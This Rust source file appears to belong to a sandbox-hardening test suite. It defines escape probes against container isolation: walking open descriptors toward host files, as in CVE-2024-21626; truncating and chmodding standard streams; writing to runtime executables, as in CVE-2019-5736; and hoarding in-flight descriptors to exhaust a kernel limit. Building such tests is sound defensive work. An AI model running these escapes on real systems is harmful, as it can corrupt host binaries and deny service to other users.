//! Attacks through open descriptors: those that the host left open, standard input and output
//! reopened with more rights, the runtime's own binary.

use std::fs::{File, OpenOptions};
use std::io::Write as _;
use std::os::fd::{AsRawFd as _, FromRawFd as _};
use std::os::unix::fs::{OpenOptionsExt as _, PermissionsExt};
use std::os::unix::net::UnixDatagram;

use crate::attempt::{error_name, last_error};
use crate::{Attack, Verdict};

pub(crate) const ATTACKS: &[Attack] = &[
    ("inherited-descriptors", inherited_descriptors),
    ("walk-descriptors", walk_descriptors),
    ("reopen-standard", reopen_standard),
    ("truncate-standard", truncate_standard),
    ("own-executable", own_executable),
    ("init-executable", init_executable),
    ("hoard-in-flight", hoard_in_flight),
];

/// The descriptors of this process, without the one that lists them.
fn open_descriptors() -> Vec<i32> {
    let Ok(listing) = std::fs::read_dir("/proc/self/fd") else {
        return (0..1024).filter(|&number| is_open(number)).collect();
    };
    let numbers: Vec<i32> =
        listing.filter_map(|entry| entry.ok()?.file_name().to_str()?.parse().ok()).collect();
    numbers.into_iter().filter(|&number| is_open(number)).collect()
}

fn is_open(number: i32) -> bool {
    // SAFETY: reads a flag of a descriptor that may or may not be open.
    unsafe { libc::fcntl(number, libc::F_GETFD) >= 0 }
}

/// Any descriptor other than the standard three.
fn inherited_descriptors(_: &[String]) -> Verdict {
    let extra: Vec<_> = open_descriptors()
        .into_iter()
        .filter(|&number| number > 2)
        .map(|number| {
            let target = std::fs::read_link(format!("/proc/self/fd/{number}"));
            format!(
                "{number} is {}",
                target.map_or_else(|e| e.to_string(), |t| t.display().to_string())
            )
        })
        .collect();
    Verdict::unless(&extra, "only the standard three are open")
}

/// `walk-descriptors CANARY`: reaches a host file from every open descriptor, its link in /proc and
/// the directories of the visible processes (CVE-2024-21626).
fn walk_descriptors(arguments: &[String]) -> Verdict {
    let canary = arguments[0].trim_start_matches('/');
    let up = "../".repeat(16);
    let mut escapes = Vec::new();
    let mut tried = 0;
    for number in open_descriptors() {
        for path in [canary.to_owned(), format!("{up}{canary}")] {
            tried += 1;
            let Ok(path) = std::ffi::CString::new(path) else { continue };
            // SAFETY: `path` outlives the call.
            let found = unsafe { libc::openat(number, path.as_ptr(), libc::O_RDONLY) };
            if found >= 0 {
                // SAFETY: the descriptor was just opened and has no other owner.
                drop(unsafe { File::from_raw_fd(found) });
                escapes.push(format!("opened below descriptor {number}"));
            }
        }
        for link in [
            format!("/proc/self/fd/{number}/{canary}"),
            format!("/proc/self/fd/{number}/{up}{canary}"),
            format!("/dev/fd/{number}/{canary}"),
        ] {
            tried += 1;
            if File::open(&link).is_ok() {
                escapes.push(link);
            }
        }
    }
    Verdict::unless(&escapes, format!("{tried} ways tried"))
}

/// Reopens the files of standard input, output and error with more rights: a host file that was
/// only opened for appending could be read, a host directory entered.
fn reopen_standard(_: &[String]) -> Verdict {
    let mut escapes = Vec::new();
    for number in 0..3 {
        let link = format!("/proc/self/fd/{number}");
        let Ok(target) = std::fs::read_link(&link) else { continue };
        let open = OpenOptions::new()
            .read(true)
            .write(true)
            .custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY)
            .open(&link);
        let Ok(file) = open else { continue };
        let Ok(metadata) = file.metadata() else { continue };
        if metadata.is_file() || metadata.is_dir() {
            escapes.push(format!("{number} is the host's {}", target.display()));
        }
    }
    Verdict::unless(&escapes, "no standard descriptor is a file of the host")
}

/// Truncates the files of the standard descriptors and changes their modes.
fn truncate_standard(_: &[String]) -> Verdict {
    let mut escapes = Vec::new();
    for number in 0..3 {
        // SAFETY: takes two numbers; the descriptor is one of the standard three.
        if unsafe { libc::ftruncate(number, 0) } == 0 {
            escapes.push(format!("emptied descriptor {number}"));
        }
        let link = format!("/proc/self/fd/{number}");
        if std::fs::metadata(&link).is_ok_and(|metadata| metadata.is_file())
            && std::fs::set_permissions(&link, PermissionsExt::from_mode(0o777)).is_ok()
        {
            escapes.push(format!("changed the mode of descriptor {number}"));
        }
    }
    Verdict::unless(&escapes, "none can be emptied")
}

/// `own-executable`: this process was started as `/proc/self/exe` by the sandbox's own init, or not
/// at all. Tries to write to its executable, and to change its mode.
fn own_executable(_: &[String]) -> Verdict {
    attack_executable("/proc/self/exe")
}

/// The same on every visible process, pid 1 first (CVE-2019-5736).
fn init_executable(_: &[String]) -> Verdict {
    let mut escapes = Vec::new();
    let mut held = Vec::new();
    let mut pids: Vec<u32> = std::fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .filter_map(|entry| entry.ok()?.file_name().to_str()?.parse().ok())
        .filter(|&pid| pid != std::process::id())
        .collect();
    pids.push(1);
    for pid in pids {
        match attack_executable(&format!("/proc/{pid}/exe")) {
            Verdict::Escaped(detail) => escapes.push(detail),
            Verdict::Blocked(detail) | Verdict::Broken(detail) => held.push(detail),
        }
    }
    Verdict::unless(&escapes, held.join(", "))
}

fn attack_executable(link: &str) -> Verdict {
    let mut escapes = Vec::new();
    if let Ok(file) = File::open(link) {
        escapes.push(format!("{link} opened for reading as descriptor {}", file.as_raw_fd()));
        // SAFETY: the descriptor is open.
        if unsafe { libc::fchmod(file.as_raw_fd(), 0o755) } == 0 {
            escapes.push(format!("{link} had its mode changed"));
        }
    }
    // Writing to a running file fails with `ETXTBSY`, which is luck and no wall: count it as
    // reached.
    match OpenOptions::new().write(true).open(link) {
        Ok(_) => escapes.push(format!("{link} opened for writing")),
        Err(_) if last_error() == libc::ETXTBSY => escapes.push(format!("{link} was only busy")),
        Err(_) => {}
    }
    Verdict::unless(&escapes, format!("{link}: {}", error_name(last_error())))
}

/// Sends as many descriptors as allowed that no process receives, prints their number, and stays
/// for a minute. The kernel counts them for each user of the host, in all jails together.
fn hoard_in_flight(_: &[String]) -> Verdict {
    const AT_ONCE: usize = 253;
    let mut sent = 0;
    let mut pairs = Vec::new();
    loop {
        let Ok((from, to)) = UnixDatagram::pair() else { break };
        let _ = from.set_nonblocking(true);
        let before = sent;
        while send_descriptors(&from, &[0; AT_ONCE]) {
            sent += AT_ONCE;
        }
        pairs.push((from, to));
        if sent == before {
            break;
        }
    }
    let _ = writeln!(std::io::stdout(), "{sent} are in flight");
    std::thread::sleep(std::time::Duration::from_secs(60));
    Verdict::Blocked(format!("{sent} were in flight"))
}

fn send_descriptors(socket: &UnixDatagram, descriptors: &[i32]) -> bool {
    // SAFETY: the space for control data is as long as its header says, and everything that is
    // pointed to outlives the call.
    unsafe {
        let length = u32::try_from(size_of_val(descriptors)).unwrap_or(u32::MAX);
        let mut space = vec![0_u64; libc::CMSG_SPACE(length) as usize / 8 + 1];
        let mut byte = libc::iovec { iov_base: (&raw mut space).cast(), iov_len: 1 };
        let mut message: libc::msghdr = std::mem::zeroed();
        message.msg_iov = &raw mut byte;
        message.msg_iovlen = 1;
        message.msg_control = space.as_mut_ptr().cast();
        message.msg_controllen = libc::CMSG_SPACE(length) as usize;
        let header = libc::CMSG_FIRSTHDR(&raw const message);
        (*header).cmsg_level = libc::SOL_SOCKET;
        (*header).cmsg_type = libc::SCM_RIGHTS;
        (*header).cmsg_len = libc::CMSG_LEN(length) as usize;
        let data = libc::CMSG_DATA(header).cast::<i32>();
        std::ptr::copy_nonoverlapping(descriptors.as_ptr(), data, descriptors.len());
        libc::sendmsg(socket.as_raw_fd(), &raw const message, 0) >= 0
    }
}
